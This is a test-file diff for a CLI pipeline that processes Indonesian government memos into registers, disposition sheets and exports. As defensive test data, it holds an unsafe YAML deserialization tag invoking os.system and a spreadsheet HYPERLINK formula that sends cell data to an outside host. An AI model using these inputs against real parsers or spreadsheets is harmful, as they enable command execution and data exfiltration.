@@ -9,11 +9,10 @@ import openpyxl
 import pytest
 from builders import HEADER, docx_text, scan, tab_memo, table_memo, yaml_memo
 from click.testing import CliRunner
+from conftest import SAMPLES, make_workspace
 
 from pipeline.cli import main
 from pipeline.register import open_register
-
-from conftest import SAMPLES, make_workspace
 
 
 def jsonl(result):
@@ -29,8 +28,9 @@ def test_memo_becomes_agenda_entry_sheet_and_case(ws, cli):
     result = cli("run")
     assert result.exit_code == 0, result.output
     assert "1 diterima." in result.output
-    assert list(ws.inbox.iterdir()) == [ws.inbox / "ditolak", ws.inbox / "duplikat"] or \
-        sorted(p.name for p in ws.inbox.iterdir() if not p.name.startswith(".")) == ["ditolak", "duplikat"]
+    assert list(ws.inbox.iterdir()) == [ws.inbox / "ditolak", ws.inbox / "duplikat"] or sorted(
+        p.name for p in ws.inbox.iterdir() if not p.name.startswith(".")
+    ) == ["ditolak", "duplikat"]
 
     year = today(ws).year
     [entry] = jsonl(cli("register", "--json"))
@@ -52,14 +52,21 @@ def test_memo_becomes_agenda_entry_sheet_and_case(ws, cli):
 
     sheet = ws.outbox / entry["kasus"] / f"{entry['kasus']}_lembar-disposisi.docx"
     text = docx_text(sheet)
-    for expected in ("LEMBAR DISPOSISI", "KEMENTERIAN DALAM NEGERI",
-                     f"Surat dari\t:\t{HEADER['Dari']}", f"Nomor surat\t:\t{HEADER['Nomor']}",
-                     "Tanggal surat\t:\t7 Oktober 2026", f"Nomor agenda\t:\t0001/SM/{year}",
-                     "Hal\t:\tPermohonan Pemanfaatan SPSE",
-                     "☐ Sangat Segera    ☒ Segera    ☐ Rahasia    ☐ Biasa",
-                     "Kepala Pusat Data, Informasi, Komunikasi dan Telekomunikasi",
-                     "Kepala Bidang Telematika", "Kepala Subbidang Aplikasi",
-                     "Dengan hormat harap:", "Catatan:"):
+    for expected in (
+        "LEMBAR DISPOSISI",
+        "KEMENTERIAN DALAM NEGERI",
+        f"Surat dari\t:\t{HEADER['Dari']}",
+        f"Nomor surat\t:\t{HEADER['Nomor']}",
+        "Tanggal surat\t:\t7 Oktober 2026",
+        f"Nomor agenda\t:\t0001/SM/{year}",
+        "Hal\t:\tPermohonan Pemanfaatan SPSE",
+        "☐ Sangat Segera    ☒ Segera    ☐ Rahasia    ☐ Biasa",
+        "Kepala Pusat Data, Informasi, Komunikasi dan Telekomunikasi",
+        "Kepala Bidang Telematika",
+        "Kepala Subbidang Aplikasi",
+        "Dengan hormat harap:",
+        "Catatan:",
+    ):
         assert expected in text, expected
 
 
@@ -88,19 +95,30 @@ def test_numbers_are_gapless_across_runs_and_refusals(ws, cli):
 @pytest.mark.parametrize("layout", ["tab", "split", "table", "table2", "yaml"])
 def test_every_layout_files_the_same_memo(ws, cli, layout):
     path = ws.inbox / ("m.yaml" if layout == "yaml" else "m.docx")
-    {"tab": lambda: tab_memo(path), "split": lambda: tab_memo(path, split_runs=True),
-     "table": lambda: table_memo(path), "table2": lambda: table_memo(path, colon_cell=False),
-     "yaml": lambda: yaml_memo(path, nomor=HEADER["Nomor"], tanggal="07-10-2026",
-                               dari=HEADER["Dari"], hal="Permohonan Pemanfaatan SPSE")}[layout]()
+    {
+        "tab": lambda: tab_memo(path),
+        "split": lambda: tab_memo(path, split_runs=True),
+        "table": lambda: table_memo(path),
+        "table2": lambda: table_memo(path, colon_cell=False),
+        "yaml": lambda: yaml_memo(
+            path, nomor=HEADER["Nomor"], tanggal="07-10-2026", dari=HEADER["Dari"], hal="Permohonan Pemanfaatan SPSE"
+        ),
+    }[layout]()
     cli("run")
     [entry] = jsonl(cli("register", "--json"))
     assert (entry["nomor_surat"], entry["tanggal_surat"]) == (HEADER["Nomor"], "2026-10-07")
 
 
-@pytest.mark.parametrize("written, iso", [
-    ("Jakarta, 18 Nopember 2026", "2026-11-18"), ("3 Pebruari 2026", "2026-02-03"),
-    ("18-11-2026", "2026-11-18"), ("18/11/2026", "2026-11-18"), ("2026-11-18", "2026-11-18"),
-])
+@pytest.mark.parametrize(
+    "written, iso",
+    [
+        ("Jakarta, 18 Nopember 2026", "2026-11-18"),
+        ("3 Pebruari 2026", "2026-02-03"),
+        ("18-11-2026", "2026-11-18"),
+        ("18/11/2026", "2026-11-18"),
+        ("2026-11-18", "2026-11-18"),
+    ],
+)
 def test_date_forms_end_to_end(ws, cli, written, iso):
     tab_memo(ws.inbox / "m.docx", {**HEADER, "Tanggal": written})
     cli("run")
@@ -131,8 +149,9 @@ def test_scan_without_sidecar_waits_for_completion(ws, cli):
     assert (ws.inbox / "lengkapi" / "pindaian.yaml").is_file()
     [row] = jsonl(cli("journal", "--json"))
     assert (row["berkas"], row["hasil"], row["lokasi"]) == ("pindaian.pdf", "menunggu", "inbox/lengkapi/pindaian.pdf")
-    assert row["alasan"][0] == ("Surat ini hasil pindaian (tanpa lapisan teks), sehingga isiannya tidak dapat "
-                                "dibaca dari teksnya.")
+    assert row["alasan"][0] == (
+        "Surat ini hasil pindaian (tanpa lapisan teks), sehingga isiannya tidak dapat dibaca dari teksnya."
+    )
 
 
 def test_refused_file_kept_with_reason(ws, cli):
@@ -147,20 +166,25 @@ def test_refused_file_kept_with_reason(ws, cli):
     reason = (ws.rejected_dir / "tanpa-nomor.yaml.alasan.txt").read_text(encoding="utf-8")
     assert reason.startswith("BERKAS DITOLAK\n\nBerkas   : tanpa-nomor.yaml\n")
     assert "1. “Nomor” tidak ditemukan pada kepala Nota Dinas tanpa-nomor.yaml.\n" in reason
-    assert ("Bila berkas ini data yang disiapkan petugas (YAML, CSV atau Excel), perbaiki sesuai alasan "
-            "di atas, lalu letakkan kembali di folder inbox.") in reason
+    assert (
+        "Bila berkas ini data yang disiapkan petugas (YAML, CSV atau Excel), perbaiki sesuai alasan "
+        "di atas, lalu letakkan kembali di folder inbox."
+    ) in reason
     [row] = jsonl(cli("journal", "--json"))
     assert row["hasil"] == "ditolak" and row["berkas"] == "tanpa-nomor.yaml"
     assert row["alasan"][0].startswith("“Nomor” tidak ditemukan")
     assert jsonl(cli("register", "--json")) == []
 
 
-@pytest.mark.parametrize("name, content, reason", [
-    ("kosong.docx", b"", "Berkas kosong (0 bita)."),
-    ("bukan.docx", b"%PDF-1.4 palsu", "Berkas bernama .docx tetapi isinya bukan dokumen Word."),
-    ("tag.yaml", b"jenis: nota_dinas\nx: !!python/name:os.system\n", "memuat tag yang tidak diizinkan"),
-    ("acak.bin", b"\x00\x01\x02garbage", "Jenis berkas tidak dikenali."),
-])
+@pytest.mark.parametrize(
+    "name, content, reason",
+    [
+        ("kosong.docx", b"", "Berkas kosong (0 bita)."),
+        ("bukan.docx", b"%PDF-1.4 palsu", "Berkas bernama .docx tetapi isinya bukan dokumen Word."),
+        ("tag.yaml", b"jenis: nota_dinas\nx: !!python/name:os.system\n", "memuat tag yang tidak diizinkan"),
+        ("acak.bin", b"\x00\x01\x02garbage", "Jenis berkas tidak dikenali."),
+    ],
+)
 def test_refusals_do_not_stop_the_batch(ws, cli, name, content, reason):
     (ws.inbox / name).write_bytes(content)
     tab_memo(ws.inbox / "baik.docx")
@@ -204,8 +228,18 @@ def test_same_memo_in_another_file_refused_with_its_agenda(ws, cli):
 
 
 def test_lock_files_and_partials_ignored(ws, cli):
-    names = ["~$nota.docx", ".~lock.nota.docx#", "x.tmp", "y.part", "z.filepart",
-             "u.crdownload", "Thumbs.db", "desktop.ini", ".DS_Store", "._nota.docx"]
+    names = [
+        "~$nota.docx",
+        ".~lock.nota.docx#",
+        "x.tmp",
+        "y.part",
+        "z.filepart",
+        "u.crdownload",
+        "Thumbs.db",
+        "desktop.ini",
+        ".DS_Store",
+        "._nota.docx",
+    ]
     for name in names:
         (ws.inbox / name).write_bytes(b"\x00sementara")
     result = cli("run")
@@ -234,8 +268,7 @@ def test_status_json_shape(ws, cli):
     tab_memo(ws.inbox / "nota.docx")
     cli("run")
     [item] = jsonl(cli("status", "--json"))
-    assert {"kasus", "rujukan", "unit", "status", "langkah_sekarang", "langkah", "data",
-            "masalah"} <= set(item)
+    assert {"kasus", "rujukan", "unit", "status", "langkah_sekarang", "langkah", "data", "masalah"} <= set(item)
     assert item["rujukan"] == HEADER["Nomor"]
     assert item["unit"] == "Badan Penelitian dan Pengembangan"
     assert item["status"] == "berjalan" and item["langkah_sekarang"] == 3
@@ -243,8 +276,9 @@ def test_status_json_shape(ws, cli):
     assert item["masalah"] == []
     steps = item["langkah"]
     assert [s["no"] for s in steps] == list(range(1, 12))
-    assert {"no", "key", "nama", "peran", "status", "mulai", "selesai", "oleh", "target_menit",
-            "dokumen"} <= set(steps[0])
+    assert {"no", "key", "nama", "peran", "status", "mulai", "selesai", "oleh", "target_menit", "dokumen"} <= set(
+        steps[0]
+    )
     assert [s["key"] for s in steps[:3]] == ["nota_dinas_masuk", "agenda_masuk", "disposisi_kapus"]
     assert [s["oleh"] for s in steps[:3]] == [HEADER["Dari"], "pipeline", ""]
     assert [s["status"] for s in steps[:4]] == ["selesai", "selesai", "berjalan", "menunggu"]
@@ -294,8 +328,15 @@ def test_register_exports(ws, cli, tmp_path):
     assert cli("register", "--buku", "masuk", "--csv", str(tmp_path / "m.csv")).exit_code == 0
     with open(tmp_path / "m.csv", encoding="utf-8-sig", newline="") as handle:
         rows = list(csv.reader(handle, delimiter=";"))
-    assert rows[0] == ["No", "Tanggal Terima", "Nomor Agenda", "Pengirim",
-                       "Tanggal dan Nomor Surat", "Isi Ringkasan", "Keterangan"]
+    assert rows[0] == [
+        "No",
+        "Tanggal Terima",
+        "Nomor Agenda",
+        "Pengirim",
+        "Tanggal dan Nomor Surat",
+        "Isi Ringkasan",
+        "Keterangan",
+    ]
     assert rows[1][4] == f"7 Oktober 2026, {HEADER['Nomor']}"
     cli("register", "--xlsx", str(tmp_path / "agenda.xlsx"))
     book = openpyxl.load_workbook(tmp_path / "agenda.xlsx")
@@ -333,8 +374,7 @@ def test_unknown_command_exit_2(cli):
     assert cli("terbang").exit_code == 2
 
 
-@pytest.mark.parametrize("command", [None, "init", "run", "watch", "status", "register",
-                                     "journal", "verify"])
+@pytest.mark.parametrize("command", [None, "init", "run", "watch", "status", "register", "journal", "verify"])
 def test_every_command_has_help(command):
     args = [command, "--help"] if command else ["--help"]
     result = CliRunner().invoke(main, args)
@@ -348,8 +388,15 @@ def test_init_creates_workspace_and_is_idempotent(tmp_path):
     runner = CliRunner()
     result = runner.invoke(main, ["init", str(tmp_path / "baru")])
     assert result.exit_code == 0 and "Ruang kerja siap" in result.output
-    for name in ("config.yaml", "inbox", "inbox/ditolak", "inbox/duplikat", "outbox", "archive",
-                 "templates/lembar_disposisi.docx"):
+    for name in (
+        "config.yaml",
+        "inbox",
+        "inbox/ditolak",
+        "inbox/duplikat",
+        "outbox",
+        "archive",
+        "templates/lembar_disposisi.docx",
+    ):
         assert (tmp_path / "baru" / name).exists(), name
     (tmp_path / "baru" / "config.yaml").write_text("# milik staf\n")
     runner.invoke(main, ["init", str(tmp_path / "baru")])
@@ -358,6 +405,7 @@ def test_init_creates_workspace_and_is_idempotent(tmp_path):
 
 def test_edited_template_with_typo_keeps_input_waiting(ws, cli):
     import docx
+
     template = ws.templates_dir / "lembar_disposisi.docx"
     document = docx.Document(str(template))
     document.add_paragraph("{{ salah_ketik }}")
@@ -403,8 +451,10 @@ def test_brackets_in_data_do_not_break_the_console(ws, cli):
 
 
 def test_exports_never_carry_formulas_from_data(ws, cli, tmp_path):
-    tab_memo(ws.inbox / "m.docx", {**HEADER, "Hal": '=HYPERLINK("http://x/"&A1,"klik")',
-                                   "Dari": "+62 ULP", "Nomor": "-1/2026"})
+    tab_memo(
+        ws.inbox / "m.docx",
+        {**HEADER, "Hal": '=HYPERLINK("http://x/"&A1,"klik")', "Dari": "+62 ULP", "Nomor": "-1/2026"},
+    )
     cli("run")
     cli("register", "--buku", "masuk", "--csv", str(tmp_path / "m.csv"), "--xlsx", str(tmp_path / "m.xlsx"))
     with open(tmp_path / "m.csv", encoding="utf-8-sig", newline="") as handle:
@@ -416,8 +466,7 @@ def test_exports_never_carry_formulas_from_data(ws, cli, tmp_path):
     assert sheet.cell(row=5, column=4).data_type == "s"
 
 
-@pytest.mark.parametrize("target", ["archive/register.sqlite3", "archive/buku.xlsx", "inbox/buku.csv",
-                                    "config.yaml"])
+@pytest.mark.parametrize("target", ["archive/register.sqlite3", "archive/buku.xlsx", "inbox/buku.csv", "config.yaml"])
 def test_exports_never_write_over_what_the_pipeline_keeps(ws, cli, target):
     tab_memo(ws.inbox / "m.docx")
     cli("run")
@@ -436,6 +485,7 @@ def _several_files(ws):
 
 def _pipeline(ws, *args):
     import sys
+
     return [sys.executable, "-m", "pipeline", "--config", str(ws.path), *args]
 
 
@@ -444,6 +494,7 @@ def test_run_shows_a_progress_bar_on_a_terminal(ws):
     import pty
     import select
     import subprocess
+
     _several_files(ws)
     master, slave = pty.openpty()
     process = subprocess.Popen(_pipeline(ws, "run"), stdout=slave, stderr=slave, stdin=slave)
@@ -465,6 +516,7 @@ def test_run_shows_a_progress_bar_on_a_terminal(ws):
 
 def test_run_is_quiet_in_a_pipe_and_speaks_json_lines(ws):
     import subprocess
+
     _several_files(ws)
     (ws.inbox / "rusak.docx").write_bytes(b"bukan dokumen")
     result = subprocess.run(_pipeline(ws, "run", "--json"), capture_output=True, text=True, timeout=120)
